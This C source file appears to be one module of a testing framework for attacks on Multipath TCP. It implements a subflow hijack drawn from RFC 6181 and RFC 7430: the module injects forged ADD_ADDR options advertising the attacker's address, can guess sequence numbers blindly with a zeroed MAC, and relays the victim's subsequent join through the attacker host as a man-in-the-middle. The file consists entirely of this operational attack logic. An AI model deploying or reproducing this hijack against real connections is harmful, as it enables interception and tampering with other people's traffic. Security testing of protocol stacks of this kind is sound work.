/* SPDX-License-Identifier: MIT */
/*
 * AT-03, AT-04: an ADD_ADDR with the address of the attacker's own host, put
 * into a subflow in the server's name. The client joins there, and the attacker
 * passes each segment on, so that each victim sees the other's proofs behind
 * the attacker's address. RFC 6181 section 6.1, RFC 7430 section 2.
 *
 * Blind, it knows who talks to whom but no sequence number and guesses both. In
 * RFC 8684 the option has a MAC, for which it has no key: zeroes.
 */
#include "atk_flows.h"
#include "atk_table.h"
#include "mpx_tcp.h"

#include <string.h>

enum { RELAY_PORT = 50000, RELAYS_MAX = 16, ADDR_ID = 66, ROUNDS = 3 };
#define AGAIN UINT64_C(100000000) /* ns; a queue may be full */

enum { KNOWS, PROBES };
enum { BLIND = 1 };
static const char *const knows_words[] = {"window", "ends", NULL};
static const struct atk_param params[] = {
    [KNOWS] = {"knows", ATK_P_WORD, .words = knows_words},
    [PROBES] = {"probes", ATK_P_COUNT, .initial = 1000, .min = 1,
                .max = 1000000},
    {.name = NULL},
};

/* A subflow through the attacker's host: `in` from the client, `out` to the
 * server. */
struct relay {
    struct atk_flow in, out;
};
struct state {
    struct atk_flows flows;
    struct relay v[RELAYS_MAX];
    unsigned n, rounds;
};

static void send_add_addr(struct atk *a, struct atk_watched *f, bool v0,
                          uint64_t now)
{
    const struct atk_config *cfg = atk_config(a);
    struct mpx_opt o = {.subtype = MPX_SUB_ADD_ADDR};
    struct atk_opts opts = {0};
    bool v4 = f->ends.family == 4;

    o.u.add_addr.v0 = v0;
    o.u.add_addr.addr_id = ADDR_ID;
    o.u.add_addr.family = f->ends.family;
    memcpy(o.u.add_addr.addr, v4 ? cfg->host4 : cfg->host6, v4 ? 4 : 16);
    atk_opts_add(&opts, &o);
    atk_flows_inject(a, f, 1, MPX_TCP_ACK, &opts, NULL, 0, now);
}

/* Both forms: what the victim does not know it ignores. */
static void offer_address(struct atk *a, void *state, uint64_t now)
{
    struct state *st = state;
    uint64_t tries = atk_param(a, KNOWS) == BLIND ? atk_param(a, PROBES) : 1;

    for (unsigned i = 0; i < st->flows.n; i++) {
        struct atk_watched f = st->flows.v[i];

        for (uint64_t n = 0; n < tries && atk_flows_live(&f); n++) {
            if (atk_param(a, KNOWS) == BLIND) {
                atk_random(a, &f.way[1].next, sizeof f.way[1].next);
                atk_random(a, &f.way[1].ack, sizeof f.way[1].ack);
                f.way[1].has_ts = false;
            }
            send_add_addr(a, &f, true, now);
            send_add_addr(a, &f, false, now);
        }
    }
    if (atk_param(a, KNOWS) != BLIND && ++st->rounds < ROUNDS)
        atk_set_timer(a, now + AGAIN);
}

/* ---- passing on ---- */

static bool same_flow(const struct atk_flow *x, const struct atk_flow *y)
{
    return x->family == y->family && x->local_port == y->local_port &&
           x->remote_port == y->remote_port &&
           !memcmp(x->remote, y->remote, sizeof x->remote);
}

/* The client's SYN: where it was meant to go is where the watched flow goes. */
static const struct relay *add_relay(struct atk *a, struct state *st,
                                     const struct atk_flow *f)
{
    struct relay *r;

    if (!st->flows.n || !atk_has_room(a, st->n, RELAYS_MAX))
        return NULL;
    r = &st->v[st->n++];
    r->in = r->out = *f;
    r->out.local_port = (uint16_t)(RELAY_PORT + st->n);
    r->out.remote_port = st->flows.v[0].ends.dport;
    memcpy(r->out.remote, st->flows.v[0].ends.dst, sizeof r->out.remote);
    return r;
}

static void relay_segment(struct atk *a, const struct atk_flow *to,
                          const uint8_t *hdr, uint8_t hdr_len,
                          const uint8_t *payload, size_t len, uint64_t now)
{
    uint8_t h[MPX_TCP_HDR_MIN + MPX_TCP_OPT_MAX];

    memcpy(h, hdr, hdr_len);
    mpx_put16(h, to->local_port);
    mpx_put16(h + 2, to->remote_port);
    atk_host_send(a, to, h, hdr_len, payload, len, now);
}

static void on_host_segment(struct atk *a, void *state,
                            const struct atk_arrival *seg, uint64_t now)
{
    struct state *st = state;
    const struct relay *r = NULL;

    for (unsigned i = 0; i < st->n; i++) {
        if (same_flow(seg->flow, &st->v[i].in))
            relay_segment(a, &st->v[i].out, seg->hdr, seg->hdr_len,
                          seg->payload, seg->len, now);
        if (same_flow(seg->flow, &st->v[i].out))
            relay_segment(a, &st->v[i].in, seg->hdr, seg->hdr_len, seg->payload,
                          seg->len, now);
        if (same_flow(seg->flow, &st->v[i].in) ||
            same_flow(seg->flow, &st->v[i].out))
            return;
    }
    if (mpx_seg_kind_of(seg->hdr[MPX_TCP_OFF_FLAGS]) == MPX_SEG_SYN)
        r = add_relay(a, st, seg->flow);
    if (!r)
        return;
    atk_count_join(a);
    relay_segment(a, &r->out, seg->hdr, seg->hdr_len, seg->payload, seg->len,
                  now);
}

const struct atk_ops atk_add_addr_relay = {
    .name = "add-addr-relay",
    .id = "AT-04",
    .does = "puts an ADD_ADDR with its own address into a subflow and relays "
            "the join that follows, or guesses the numbers without seeing them",
    .source = "RFC 6181 section 6.1; RFC 7430 section 2",
    .powers = ATK_READ | ATK_INJECT | ATK_HOST,
    .params = params,
    .state_size = sizeof(struct state),
    .on_segment = atk_flows_watch,
    .on_start = offer_address,
    .on_host_segment = on_host_segment,
    .on_timer = offer_address,
};
